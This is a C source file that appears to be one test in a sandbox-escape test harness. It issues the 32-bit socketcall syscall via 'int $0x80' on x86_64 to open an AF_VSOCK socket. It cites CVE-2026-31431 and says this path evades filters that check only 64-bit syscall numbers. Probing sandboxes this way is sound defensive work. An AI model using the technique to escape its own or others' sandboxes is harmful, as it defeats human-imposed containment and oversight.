/* The 32-bit door: socketcall() with a family that the 64-bit one refuses. */
#include "../attack.h"

#ifdef __x86_64__
#include <signal.h>
#include <sys/mman.h>

static void none(int sig)
{
	(void)sig;
	puts("not here"); /* a kernel without 32-bit calls */
	fflush(stdout);
	_exit(77);
}
#endif

ATTACK(KERNEL, "calls",
       .gain = "calls by 32-bit numbers, whose arguments no filter of 64-bit ones sees",
       .source = "CVE-2026-31431", .works = SOME_KERNELS, .needs = "32-bit calls")
{
#ifdef __x86_64__
	uint32_t *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	int r;

	signal(SIGSEGV, none);
	args[0] = 40; /* AF_VSOCK */
	args[1] = 1;
	args[2] = 0;
	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(102), "b"(1), "c"(args)
			 : "memory", "r8", "r9", "r10", "r11");
	if (r < 0) {
		errno = -r;
		return -1;
	}
	return r;
#else
	return NOT_HERE;
#endif
}
